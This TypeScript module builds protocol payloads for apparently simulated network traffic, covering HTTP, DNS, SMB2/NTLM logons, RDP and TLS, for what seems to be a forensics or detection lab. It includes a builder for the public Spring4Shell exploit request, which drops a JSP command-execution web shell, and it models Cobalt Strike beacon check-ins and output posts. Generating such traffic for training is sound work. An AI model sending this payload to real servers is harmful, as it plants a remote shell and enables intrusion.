/**
 * Byte-correct payload builders for the simulated conversations:
 * HTTP/1.1 (RFC 9112), DNS (RFC 1035), SMB2 (MS-SMB2) with SPNEGO (RFC 4178) and
 * NTLMSSP (MS-NLMP), RDP X.224 connection request/confirm (MS-RDPBCGR 2.2.1.1/2.2.1.2),
 * a minimal TLS 1.2/1.3 handshake framing (RFC 8446) for encrypted sessions, and the
 * Cobalt Strike default-profile HTTP beacon shape.
 */
import { Rng } from './rng.js';
import { filetimeFromMs } from './evtx-writer.js';

/** One application message of a TCP conversation (see NetSim.tcp). */
export type TcpMsg = { from: 'c' | 's'; data: Buffer; gap?: number };

// ---------------------------------------------------------------- HTTP

export function httpRequest(method: string, uri: string, headers: [string, string][], body: Buffer | string = ''): Buffer {
  const b = typeof body === 'string' ? Buffer.from(body, 'latin1') : body;
  const hs = [...headers];
  if (b.length || method === 'POST') hs.push(['Content-Length', String(b.length)]);
  const head = `${method} ${uri} HTTP/1.1\r\n` + hs.map(([k, v]) => `${k}: ${v}\r\n`).join('') + '\r\n';
  return Buffer.concat([Buffer.from(head, 'latin1'), b]);
}

const REASONS: Record<number, string> = {
  200: 'OK', 204: 'No Content', 301: 'Moved Permanently', 302: 'Found', 304: 'Not Modified',
  400: 'Bad Request', 401: 'Unauthorized', 403: 'Forbidden', 404: 'Not Found', 405: 'Method Not Allowed',
  500: 'Internal Server Error',
};

export function httpResponse(status: number, headers: [string, string][], body: Buffer | string = ''): Buffer {
  const b = typeof body === 'string' ? Buffer.from(body, 'latin1') : body;
  const hs = [...headers, ['Content-Length', String(b.length)] as [string, string]];
  const head = `HTTP/1.1 ${status} ${REASONS[status] ?? 'Unknown'}\r\n` + hs.map(([k, v]) => `${k}: ${v}\r\n`).join('') + '\r\n';
  return Buffer.concat([Buffer.from(head, 'latin1'), b]);
}

export function httpDate(ms: number): string { return new Date(ms).toUTCString(); }

/** Spring4Shell (CVE-2022-22965) exploit request body: rewrites Tomcat's AccessLogValve to drop a JSP. */
export function spring4shellBody(opts: { prefix?: string; suffix?: string; directory?: string; pwd?: string } = {}): string {
  const pwd = opts.pwd ?? 'j';
  const jsp = `%{c2}i if("${pwd}".equals(request.getParameter("pwd"))){ java.io.InputStream in = %{c1}i.getRuntime().exec(request.getParameter("cmd")).getInputStream(); int a = -1; byte[] b = new byte[2048]; while((a=in.read(b))!=-1){ out.println(new String(b)); } } %{suffix}i`;
  const params: [string, string][] = [
    ['class.module.classLoader.resources.context.parent.pipeline.first.pattern', jsp],
    ['class.module.classLoader.resources.context.parent.pipeline.first.suffix', opts.suffix ?? '.jsp'],
    ['class.module.classLoader.resources.context.parent.pipeline.first.directory', opts.directory ?? 'webapps/ROOT'],
    ['class.module.classLoader.resources.context.parent.pipeline.first.prefix', opts.prefix ?? 'tomcatwar'],
    ['class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat', ''],
  ];
  return params.map(([k, v]) => `${k}=${encodeURIComponent(v)}`).join('&');
}

/** Headers the public Spring4Shell exploit sends (they fill the %{c1}i, %{c2}i, %{suffix}i placeholders). */
export const SPRING4SHELL_HEADERS: [string, string][] = [
  ['suffix', '%>//'],
  ['c1', 'Runtime'],
  ['c2', '<%'],
  ['DNT', '1'],
];

// ---------------------------------------------------------------- DNS

function dnsName(name: string): Buffer {
  const parts = name.replace(/\.$/, '').split('.').filter(Boolean);
  const bufs = parts.map((p) => { const b = Buffer.from(p, 'latin1'); return Buffer.concat([Buffer.from([b.length]), b]); });
  return Buffer.concat([...bufs, Buffer.from([0])]);
}

export const DNS_TYPE = { A: 1, NS: 2, CNAME: 5, PTR: 12, MX: 15, TXT: 16, AAAA: 28, SRV: 33 } as const;

export interface DnsAnswer { type: 'A' | 'CNAME'; data: string; ttl: number }

/** A standard query (RD set). */
export function dnsQuery(id: number, name: string, qtype = DNS_TYPE.A): Buffer {
  const h = Buffer.alloc(12);
  h.writeUInt16BE(id, 0); h.writeUInt16BE(0x0100, 2); h.writeUInt16BE(1, 4);
  const q = Buffer.alloc(4); q.writeUInt16BE(qtype, 0); q.writeUInt16BE(1, 2);
  return Buffer.concat([h, dnsName(name), q]);
}

/** The response: question echoed, answers chained by name (CNAME target becomes the next owner). */
export function dnsResponse(id: number, name: string, answers: DnsAnswer[], rcode = 0, qtype = DNS_TYPE.A): Buffer {
  const h = Buffer.alloc(12);
  h.writeUInt16BE(id, 0); h.writeUInt16BE(0x8180 | (rcode & 0xf), 2);
  h.writeUInt16BE(1, 4); h.writeUInt16BE(answers.length, 6);
  const q = Buffer.alloc(4); q.writeUInt16BE(qtype, 0); q.writeUInt16BE(1, 2);
  const parts: Buffer[] = [h, dnsName(name), q];
  let owner: Buffer = Buffer.from([0xc0, 0x0c]);
  let off = 12 + dnsName(name).length + 4;
  for (const a of answers) {
    const fixed = Buffer.alloc(10);
    const rdata = a.type === 'A' ? Buffer.from(a.data.split('.').map(Number)) : dnsName(a.data);
    fixed.writeUInt16BE(a.type === 'A' ? DNS_TYPE.A : DNS_TYPE.CNAME, 0);
    fixed.writeUInt16BE(1, 2); fixed.writeUInt32BE(a.ttl, 4); fixed.writeUInt16BE(rdata.length, 8);
    parts.push(owner, fixed, rdata);
    const rdataOff = off + owner.length + 10;
    off = rdataOff + rdata.length;
    if (a.type === 'CNAME') { owner = Buffer.from([0xc0 | (rdataOff >> 8), rdataOff & 0xff]); }
  }
  return Buffer.concat(parts);
}

// ---------------------------------------------------------------- ASN.1 DER (SPNEGO)

function derLen(n: number): Buffer {
  if (n < 0x80) return Buffer.from([n]);
  if (n < 0x100) return Buffer.from([0x81, n]);
  return Buffer.from([0x82, n >> 8, n & 0xff]);
}
function der(tag: number, ...content: Buffer[]): Buffer {
  const c = Buffer.concat(content);
  return Buffer.concat([Buffer.from([tag]), derLen(c.length), c]);
}
const OID_SPNEGO = Buffer.from([0x06, 0x06, 0x2b, 0x06, 0x01, 0x05, 0x05, 0x02]);
const OID_NTLMSSP = Buffer.from([0x06, 0x0a, 0x2b, 0x06, 0x01, 0x04, 0x01, 0x82, 0x37, 0x02, 0x02, 0x0a]);

/** GSS-API initial token: SPNEGO NegTokenInit offering NTLMSSP, optionally carrying a mechToken. */
export function spnegoInit(mechToken?: Buffer): Buffer {
  const inner = [der(0xa0, der(0x30, OID_NTLMSSP))];
  if (mechToken) inner.push(der(0xa2, der(0x04, mechToken)));
  return der(0x60, OID_SPNEGO, der(0xa0, der(0x30, ...inner)));
}
/** SPNEGO NegTokenResp: negState 0 accept-completed, 1 accept-incomplete, 2 reject. */
export function spnegoResp(opts: { state?: number; mech?: boolean; token?: Buffer }): Buffer {
  const inner: Buffer[] = [];
  if (opts.state !== undefined) inner.push(der(0xa0, Buffer.from([0x0a, 0x01, opts.state])));
  if (opts.mech) inner.push(der(0xa1, OID_NTLMSSP));
  if (opts.token) inner.push(der(0xa2, der(0x04, opts.token)));
  return der(0xa1, der(0x30, ...inner));
}

// ---------------------------------------------------------------- NTLMSSP (MS-NLMP 2.2.1)

const NTLM_SIG = Buffer.from('NTLMSSP\0', 'latin1');
function ntlmVersion(major = 6, minor = 1, build = 7601): Buffer {
  const v = Buffer.alloc(8);
  v[0] = major; v[1] = minor; v.writeUInt16BE(0, 2); v.writeUInt16LE(build, 2); v[7] = 0x0f;
  return v;
}

export function ntlmNegotiate(): Buffer {
  const b = Buffer.alloc(40);
  NTLM_SIG.copy(b, 0);
  b.writeUInt32LE(1, 8);
  b.writeUInt32LE(0xe2088297, 12);
  // DomainNameFields, WorkstationFields: empty, offset = 40
  b.writeUInt32LE(40, 20); b.writeUInt32LE(40, 28);
  ntlmVersion().copy(b, 32);
  return b;
}

function avPairs(p: { nbDomain: string; nbComputer: string; dnsDomain: string; dnsComputer: string; timeMs: number }): Buffer {
  const parts: Buffer[] = [];
  const pair = (id: number, v: Buffer) => { const h = Buffer.alloc(4); h.writeUInt16LE(id, 0); h.writeUInt16LE(v.length, 2); parts.push(h, v); };
  pair(2, Buffer.from(p.nbDomain, 'utf16le'));
  pair(1, Buffer.from(p.nbComputer, 'utf16le'));
  pair(4, Buffer.from(p.dnsDomain, 'utf16le'));
  pair(3, Buffer.from(p.dnsComputer, 'utf16le'));
  const ts = Buffer.alloc(8); ts.writeBigUInt64LE(filetimeFromMs(p.timeMs));
  pair(7, ts);
  pair(0, Buffer.alloc(0));
  return Buffer.concat(parts);
}

export interface NtlmServerInfo { nbDomain: string; nbComputer: string; dnsDomain: string; dnsComputer: string }

export function ntlmChallenge(rng: Rng, server: NtlmServerInfo, timeMs: number): { msg: Buffer; targetInfo: Buffer; challenge: Buffer } {
  const target = Buffer.from(server.nbDomain, 'utf16le');
  const targetInfo = avPairs({ ...server, timeMs });
  const challenge = rng.bytes(8);
  const h = Buffer.alloc(56);
  NTLM_SIG.copy(h, 0);
  h.writeUInt32LE(2, 8);
  h.writeUInt16LE(target.length, 12); h.writeUInt16LE(target.length, 14); h.writeUInt32LE(56, 16);
  h.writeUInt32LE(0xe2898215, 20);
  challenge.copy(h, 24);
  h.writeUInt16LE(targetInfo.length, 40); h.writeUInt16LE(targetInfo.length, 42); h.writeUInt32LE(56 + target.length, 44);
  ntlmVersion().copy(h, 48);
  return { msg: Buffer.concat([h, target, targetInfo]), targetInfo, challenge };
}

export function ntlmAuthenticate(rng: Rng, p: { user: string; domain: string; workstation: string; targetInfo: Buffer; timeMs: number }): Buffer {
  const domain = Buffer.from(p.domain, 'utf16le');
  const user = Buffer.from(p.user, 'utf16le');
  const ws = Buffer.from(p.workstation, 'utf16le');
  const lm = Buffer.alloc(24);
  // NTLMv2 response: NTProofStr(16) + blob (RespType, HiRespType, Z6, TimeStamp, ChallengeFromClient, Z4, AvPairs, Z4)
  const blobHead = Buffer.alloc(28);
  blobHead[0] = 1; blobHead[1] = 1;
  blobHead.writeBigUInt64LE(filetimeFromMs(p.timeMs), 8);
  rng.bytes(8).copy(blobHead, 16);
  const nt = Buffer.concat([rng.bytes(16), blobHead, p.targetInfo, Buffer.alloc(4)]);
  const key = rng.bytes(16);
  const H = 88;
  const fields: Buffer[] = [lm, nt, domain, user, ws, key];
  const h = Buffer.alloc(H);
  NTLM_SIG.copy(h, 0);
  h.writeUInt32LE(3, 8);
  let off = H;
  const at = [12, 20, 28, 36, 44, 52];
  fields.forEach((f, i) => {
    h.writeUInt16LE(f.length, at[i]); h.writeUInt16LE(f.length, at[i] + 2); h.writeUInt32LE(off, at[i] + 4);
    off += f.length;
  });
  h.writeUInt32LE(0xe2888215, 60);
  ntlmVersion().copy(h, 64);
  rng.bytes(16).copy(h, 72); // MIC
  return Buffer.concat([h, ...fields]);
}

// ---------------------------------------------------------------- SMB2 (MS-SMB2 2.2)

export const NT_STATUS = {
  SUCCESS: 0x00000000,
  MORE_PROCESSING_REQUIRED: 0xc0000016,
  LOGON_FAILURE: 0xc000006d,
  ACCESS_DENIED: 0xc0000022,
} as const;

export const SMB2_CMD = { NEGOTIATE: 0, SESSION_SETUP: 1, LOGOFF: 2, TREE_CONNECT: 3 } as const;

function smb2Header(p: { cmd: number; status?: number; msgId: number; sessionId?: bigint; treeId?: number; response: boolean; credits?: number }): Buffer {
  const h = Buffer.alloc(64);
  h.write('\xfeSMB', 0, 'latin1');
  h.writeUInt16LE(64, 4);
  h.writeUInt16LE(p.msgId === 0 ? 0 : 1, 6); // CreditCharge
  h.writeUInt32LE(p.response ? (p.status ?? 0) >>> 0 : 0, 8);
  h.writeUInt16LE(p.cmd, 12);
  h.writeUInt16LE(p.credits ?? (p.response ? 1 : 31), 14);
  h.writeUInt32LE(p.response ? 1 : 0, 16); // SMB2_FLAGS_SERVER_TO_REDIR
  h.writeUInt32LE(0, 20);
  h.writeBigUInt64LE(BigInt(p.msgId), 24);
  h.writeUInt32LE(0xfeff, 32); // Reserved (ProcessId)
  h.writeUInt32LE(p.treeId ?? 0, 36);
  h.writeBigUInt64LE(p.sessionId ?? 0n, 40);
  return h;
}

/** NetBIOS session service framing (RFC 1002 4.3.1, as used on TCP 445). */
export function nbss(msg: Buffer): Buffer {
  const h = Buffer.alloc(4);
  h.writeUInt32BE(msg.length & 0xffffff, 0);
  return Buffer.concat([h, msg]);
}

export function smb2NegotiateRequest(rng: Rng, dialects = [0x0202, 0x0210]): Buffer {
  const b = Buffer.alloc(36 + 2 * dialects.length);
  b.writeUInt16LE(36, 0); b.writeUInt16LE(dialects.length, 2);
  b.writeUInt16LE(1, 4); // signing enabled
  b.writeUInt32LE(0, 8); // capabilities (2.x client)
  rng.bytes(16).copy(b, 12);
  dialects.forEach((d, i) => b.writeUInt16LE(d, 36 + 2 * i));
  return nbss(Buffer.concat([smb2Header({ cmd: 0, msgId: 0, response: false }), b]));
}

export function smb2NegotiateResponse(rng: Rng, timeMs: number, bootMs: number, dialect = 0x0210): Buffer {
  const sec = spnegoInit();
  const b = Buffer.alloc(64);
  b.writeUInt16LE(65, 0); b.writeUInt16LE(1, 2); b.writeUInt16LE(dialect, 4);
  rng.bytes(16).copy(b, 8);
  b.writeUInt32LE(0x7, 24);
  b.writeUInt32LE(0x100000, 28); b.writeUInt32LE(0x100000, 32); b.writeUInt32LE(0x100000, 36);
  b.writeBigUInt64LE(filetimeFromMs(timeMs), 40);
  b.writeBigUInt64LE(filetimeFromMs(bootMs), 48);
  b.writeUInt16LE(128, 56); b.writeUInt16LE(sec.length, 58);
  return nbss(Buffer.concat([smb2Header({ cmd: 0, msgId: 0, response: true }), b, sec]));
}

export function smb2SessionSetupRequest(msgId: number, sessionId: bigint, blob: Buffer): Buffer {
  const b = Buffer.alloc(24);
  b.writeUInt16LE(25, 0); b[2] = 0; b[3] = 1;
  b.writeUInt32LE(1, 4);
  b.writeUInt16LE(64 + 24, 12); b.writeUInt16LE(blob.length, 14);
  return nbss(Buffer.concat([smb2Header({ cmd: 1, msgId, sessionId, response: false }), b, blob]));
}

export function smb2SessionSetupResponse(msgId: number, sessionId: bigint, status: number, blob?: Buffer): Buffer {
  const hdr = smb2Header({ cmd: 1, msgId, sessionId, status, response: true });
  if (status !== NT_STATUS.SUCCESS && status !== NT_STATUS.MORE_PROCESSING_REQUIRED) return nbss(Buffer.concat([hdr, smb2ErrorBody()]));
  const sec = blob ?? Buffer.alloc(0);
  const b = Buffer.alloc(8);
  b.writeUInt16LE(9, 0); b.writeUInt16LE(0, 2);
  b.writeUInt16LE(sec.length ? 64 + 8 : 0, 4); b.writeUInt16LE(sec.length, 6);
  return nbss(Buffer.concat([hdr, b, sec]));
}

function smb2ErrorBody(): Buffer {
  const b = Buffer.alloc(9);
  b.writeUInt16LE(9, 0);
  return b;
}

export function smb2TreeConnectRequest(msgId: number, sessionId: bigint, path: string): Buffer {
  const p = Buffer.from(path, 'utf16le');
  const b = Buffer.alloc(8);
  b.writeUInt16LE(9, 0); b.writeUInt16LE(64 + 8, 4); b.writeUInt16LE(p.length, 6);
  return nbss(Buffer.concat([smb2Header({ cmd: 3, msgId, sessionId, response: false }), b, p]));
}

export function smb2TreeConnectResponse(msgId: number, sessionId: bigint, treeId: number, shareType: 1 | 2, status = 0): Buffer {
  const hdr = smb2Header({ cmd: 3, msgId, sessionId, treeId: status ? 0 : treeId, status, response: true });
  if (status) return nbss(Buffer.concat([hdr, smb2ErrorBody()]));
  const b = Buffer.alloc(16);
  b.writeUInt16LE(16, 0); b[2] = shareType;
  b.writeUInt32LE(shareType === 2 ? 0x30 : 0x800, 4);
  b.writeUInt32LE(0, 8);
  b.writeUInt32LE(shareType === 2 ? 0x001f01ff : 0x001f01ff, 12);
  return nbss(Buffer.concat([hdr, b]));
}

export function smb2LogoffRequest(msgId: number, sessionId: bigint): Buffer {
  const b = Buffer.alloc(4); b.writeUInt16LE(4, 0);
  return nbss(Buffer.concat([smb2Header({ cmd: 2, msgId, sessionId, response: false }), b]));
}
export function smb2LogoffResponse(msgId: number, sessionId: bigint): Buffer {
  const b = Buffer.alloc(4); b.writeUInt16LE(4, 0);
  return nbss(Buffer.concat([smb2Header({ cmd: 2, msgId, sessionId, response: true }), b]));
}

/**
 * The messages of one SMB2 NTLM logon attempt (negotiate, two session setups, and on
 * success a tree connect and logoff), ready for NetSim.tcp().
 */
export function smb2LogonExchange(rng: Rng, p: {
  timeMs: number; serverIp: string; server: NtlmServerInfo; user: string; domain: string; workstation: string;
  success: boolean; share?: string; bootMs?: number;
}): { from: 'c' | 's'; data: Buffer; gap?: number }[] {
  const sessionId = (0x0000040000000000n | BigInt(rng.u32() & 0xffffff)) + 0x11n;
  const ch = ntlmChallenge(rng, p.server, p.timeMs);
  const msgs: { from: 'c' | 's'; data: Buffer; gap?: number }[] = [
    { from: 'c', data: smb2NegotiateRequest(rng) },
    { from: 's', data: smb2NegotiateResponse(rng, p.timeMs, p.bootMs ?? p.timeMs - 86400000 * 9) },
    { from: 'c', data: smb2SessionSetupRequest(1, 0n, spnegoInit(ntlmNegotiate())) },
    { from: 's', data: smb2SessionSetupResponse(1, sessionId, NT_STATUS.MORE_PROCESSING_REQUIRED, spnegoResp({ state: 1, mech: true, token: ch.msg })) },
    { from: 'c', data: smb2SessionSetupRequest(2, sessionId, spnegoResp({ token: ntlmAuthenticate(rng, { user: p.user, domain: p.domain, workstation: p.workstation, targetInfo: ch.targetInfo, timeMs: p.timeMs }) })) },
  ];
  if (!p.success) {
    msgs.push({ from: 's', data: smb2SessionSetupResponse(2, sessionId, NT_STATUS.LOGON_FAILURE), gap: 2 });
    return msgs;
  }
  msgs.push({ from: 's', data: smb2SessionSetupResponse(2, sessionId, NT_STATUS.SUCCESS, spnegoResp({ state: 0 })), gap: 2 });
  const share = p.share ?? 'IPC$';
  const treeId = rng.int(1, 9);
  msgs.push(
    { from: 'c', data: smb2TreeConnectRequest(3, sessionId, `\\\\${p.serverIp}\\${share}`) },
    { from: 's', data: smb2TreeConnectResponse(3, sessionId, treeId, share === 'IPC$' ? 2 : 1) },
    { from: 'c', data: smb2LogoffRequest(4, sessionId), gap: 20 },
    { from: 's', data: smb2LogoffResponse(4, sessionId) },
  );
  return msgs;
}

// ---------------------------------------------------------------- RDP (MS-RDPBCGR 2.2.1.1 / 2.2.1.2)

export const RDP_PROTOCOL = { RDP: 0, SSL: 1, HYBRID: 2, HYBRID_EX: 8 } as const;

function tpkt(x224: Buffer): Buffer {
  const h = Buffer.from([3, 0, 0, 0]);
  h.writeUInt16BE(4 + x224.length, 2);
  return Buffer.concat([h, x224]);
}

/** X.224 Connection Request carrying "Cookie: mstshash=USER" and an RDP Negotiation Request. */
export function rdpConnectionRequest(user: string, requested = RDP_PROTOCOL.SSL | RDP_PROTOCOL.HYBRID): Buffer {
  const cookie = Buffer.from(`Cookie: mstshash=${user}\r\n`, 'latin1');
  const neg = Buffer.alloc(8);
  neg[0] = 0x01; neg[1] = 0; neg.writeUInt16LE(8, 2); neg.writeUInt32LE(requested, 4);
  const fixed = Buffer.from([0, 0xe0, 0, 0, 0, 0, 0]);
  fixed[0] = 6 + cookie.length + neg.length;
  return tpkt(Buffer.concat([fixed, cookie, neg]));
}

/** X.224 Connection Confirm with an RDP Negotiation Response selecting a protocol. */
export function rdpConnectionConfirm(selected = RDP_PROTOCOL.HYBRID): Buffer {
  const neg = Buffer.alloc(8);
  neg[0] = 0x02; neg[1] = 0x1f; neg.writeUInt16LE(8, 2); neg.writeUInt32LE(selected, 4);
  return tpkt(Buffer.concat([Buffer.from([6 + 8, 0xd0, 0, 0, 0x12, 0x34, 0]), neg]));
}

// ---------------------------------------------------------------- TLS framing

function tlsRecord(type: number, body: Buffer, version = 0x0303): Buffer {
  const h = Buffer.alloc(5);
  h[0] = type; h.writeUInt16BE(version, 1); h.writeUInt16BE(body.length, 3);
  return Buffer.concat([h, body]);
}
function tlsHandshake(type: number, body: Buffer): Buffer {
  const h = Buffer.alloc(4);
  h[0] = type; h.writeUIntBE(body.length, 1, 3);
  return Buffer.concat([h, body]);
}
function ext(type: number, data: Buffer): Buffer {
  const h = Buffer.alloc(4); h.writeUInt16BE(type, 0); h.writeUInt16BE(data.length, 2);
  return Buffer.concat([h, data]);
}
function u16list(vals: number[], lenBytes = 2): Buffer {
  const b = Buffer.alloc(lenBytes + vals.length * 2);
  if (lenBytes === 2) b.writeUInt16BE(vals.length * 2, 0); else b[0] = vals.length * 2;
  vals.forEach((v, i) => b.writeUInt16BE(v, lenBytes + 2 * i));
  return b;
}

export function tlsClientHello(rng: Rng, sni?: string): Buffer {
  const exts: Buffer[] = [];
  if (sni) {
    const n = Buffer.from(sni, 'latin1');
    const e = Buffer.alloc(5 + n.length);
    e.writeUInt16BE(3 + n.length, 0); e[2] = 0; e.writeUInt16BE(n.length, 3); n.copy(e, 5);
    exts.push(ext(0, e));
  }
  exts.push(ext(10, u16list([0x001d, 0x0017, 0x0018])));
  exts.push(ext(11, Buffer.from([1, 0])));
  exts.push(ext(13, u16list([0x0804, 0x0403, 0x0401, 0x0805, 0x0501, 0x0201])));
  exts.push(ext(23, Buffer.alloc(0)));
  exts.push(ext(43, u16list([0x0304, 0x0303], 1)));
  const ks = Buffer.alloc(2 + 4 + 32);
  ks.writeUInt16BE(36, 0); ks.writeUInt16BE(0x001d, 2); ks.writeUInt16BE(32, 4); rng.bytes(32).copy(ks, 6);
  exts.push(ext(51, ks));
  const extBuf = Buffer.concat(exts);
  const suites = u16list([0x1302, 0x1301, 0xc02c, 0xc02b, 0xc030, 0xc02f, 0x009d, 0x009c, 0x003d, 0x003c, 0x0035, 0x002f]);
  const body = Buffer.concat([
    Buffer.from([3, 3]), rng.bytes(32), Buffer.from([32]), rng.bytes(32),
    suites, Buffer.from([1, 0]),
    (() => { const l = Buffer.alloc(2); l.writeUInt16BE(extBuf.length); return l; })(), extBuf,
  ]);
  return tlsRecord(22, tlsHandshake(1, body), 0x0301);
}

/** ServerHello (TLS 1.3 via supported_versions), ChangeCipherSpec, then encrypted handshake records. */
export function tlsServerFlight(rng: Rng, encryptedBytes = 2400): Buffer {
  const ks = Buffer.alloc(4 + 32);
  ks.writeUInt16BE(0x001d, 0); ks.writeUInt16BE(32, 2); rng.bytes(32).copy(ks, 4);
  const extBuf = Buffer.concat([ext(43, Buffer.from([3, 4])), ext(51, ks)]);
  const l = Buffer.alloc(2); l.writeUInt16BE(extBuf.length);
  const body = Buffer.concat([Buffer.from([3, 3]), rng.bytes(32), Buffer.from([32]), rng.bytes(32), Buffer.from([0x13, 0x02, 0]), l, extBuf]);
  return Buffer.concat([
    tlsRecord(22, tlsHandshake(2, body)),
    tlsRecord(20, Buffer.from([1])),
    tlsAppData(rng, encryptedBytes),
  ]);
}

/**
 * Opaque ciphertext-like bytes. Byte 0x03 is avoided: on RDP (TCP 3389) tshark does not
 * follow the TLS upgrade and checks every segment for a TPKT header (version 3), so a
 * segment that happened to start with 0x03 0x00 would be mis-dissected as TPKT.
 */
export function opaqueBytes(rng: Rng, n: number): Buffer {
  const b = rng.bytes(n);
  for (let i = 0; i < n; i++) if (b[i] === 0x03) b[i] = 0x83;
  return b;
}

/**
 * Record payload size for long streams: 11 full segments minus the 5-byte header, so every
 * record header starts a segment (a header split across segments could start a segment
 * with 0x03 0x03 ..., which tshark's TPKT heuristic on port 3389 would take for TPKT).
 */
export const TLS_RECORD_PAYLOAD = 11 * 1460 - 5;

/** One or more TLS application_data records of opaque (encrypted-looking) bytes. */
export function tlsAppData(rng: Rng, bytes: number): Buffer {
  const out: Buffer[] = [];
  let left = Math.max(1, bytes);
  while (left > 0) {
    const n = Math.min(left, TLS_RECORD_PAYLOAD);
    out.push(tlsRecord(23, opaqueBytes(rng, n)));
    left -= n;
  }
  return Buffer.concat(out);
}

export function tlsClientFinish(rng: Rng, bytes = 80): Buffer {
  return Buffer.concat([tlsRecord(20, Buffer.from([1])), tlsAppData(rng, bytes)]);
}

/** Messages of an RDP connection attempt with NLA (CredSSP inside TLS). */
export function rdpNlaExchange(rng: Rng, user: string, success: boolean): { from: 'c' | 's'; data: Buffer; gap?: number }[] {
  const m: { from: 'c' | 's'; data: Buffer; gap?: number }[] = [
    { from: 'c', data: rdpConnectionRequest(user) },
    { from: 's', data: rdpConnectionConfirm(RDP_PROTOCOL.HYBRID) },
    { from: 'c', data: tlsClientHello(rng) },
    { from: 's', data: tlsServerFlight(rng, rng.int(900, 1300)) },
    { from: 'c', data: tlsClientFinish(rng, 74) },
    { from: 'c', data: tlsAppData(rng, rng.int(60, 90)) }, // CredSSP NTLM NEGOTIATE
    { from: 's', data: tlsAppData(rng, rng.int(240, 300)) }, // CHALLENGE
    { from: 'c', data: tlsAppData(rng, rng.int(420, 520)) }, // AUTHENTICATE
  ];
  if (!success) {
    m.push({ from: 's', data: tlsAppData(rng, 40), gap: rng.int(15, 60) }); // error
    return m;
  }
  m.push({ from: 's', data: tlsAppData(rng, 60), gap: 20 }, { from: 'c', data: tlsAppData(rng, 580) });
  // session: MCS connect, licensing, and a stream of screen updates
  for (let i = 0; i < 12; i++) m.push({ from: 's', data: tlsAppData(rng, rng.int(2000, 12000)), gap: rng.int(10, 300) }, { from: 'c', data: tlsAppData(rng, rng.int(40, 300)), gap: rng.int(5, 200) });
  return m;
}

// ---------------------------------------------------------------- Cobalt Strike default profile

export const CS_GET_URIS = ['/ca', '/dpixel', '/__utm.gif', '/pixel.gif', '/g.pixel', '/dot.gif', '/updates.rss', '/fwlink', '/cm', '/cx', '/pixel', '/match', '/visit.js', '/load', '/push', '/ptj', '/j.ad', '/ga.js', '/en_US/all.js', '/activity', '/IE9CompatViewList.xml'];
export const CS_USER_AGENT = 'Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; WOW64; Trident/5.0; BOIE9;ENUS)';

/** One beacon check-in (GET with base64 metadata cookie), with optional task and POST of output. */
export function beaconCheckin(rng: Rng, p: { c2: string; uri: string; metadata: Buffer; task?: Buffer; timeMs: number }): { from: 'c' | 's'; data: Buffer; gap?: number }[] {
  const req = httpRequest('GET', p.uri, [
    ['Accept', '*/*'],
    ['Cookie', p.metadata.toString('base64')],
    ['User-Agent', CS_USER_AGENT],
    ['Host', p.c2],
    ['Connection', 'Keep-Alive'],
    ['Cache-Control', 'no-cache'],
  ]);
  const resp = httpResponse(200, [
    ['Date', httpDate(p.timeMs)],
    ['Content-Type', 'application/octet-stream'],
  ], p.task ?? Buffer.alloc(0));
  return [{ from: 'c', data: req }, { from: 's', data: resp, gap: rng.int(30, 90) }];
}

export function beaconPost(rng: Rng, p: { c2: string; id: number; output: Buffer; timeMs: number }): { from: 'c' | 's'; data: Buffer; gap?: number }[] {
  const req = httpRequest('POST', `/submit.php?id=${p.id}`, [
    ['Accept', '*/*'],
    ['User-Agent', CS_USER_AGENT],
    ['Host', p.c2],
    ['Content-Type', 'application/octet-stream'],
    ['Connection', 'Keep-Alive'],
    ['Cache-Control', 'no-cache'],
  ], p.output);
  const resp = httpResponse(200, [['Date', httpDate(p.timeMs)], ['Content-Type', 'text/html']], '');
  return [{ from: 'c', data: req }, { from: 's', data: resp, gap: rng.int(30, 90) }];
}

/** Beacon check-in times: interval (s) with jitter (0..1) as Cobalt Strike applies it (sleep - random(jitter*sleep)). */
export function beaconSchedule(rng: Rng, startMs: number, endMs: number, intervalS: number, jitter: number): number[] {
  const out: number[] = [];
  let t = startMs;
  while (t < endMs) {
    out.push(t);
    const sleep = intervalS * 1000;
    t += sleep - rng.next() * jitter * sleep;
  }
  return out;
}
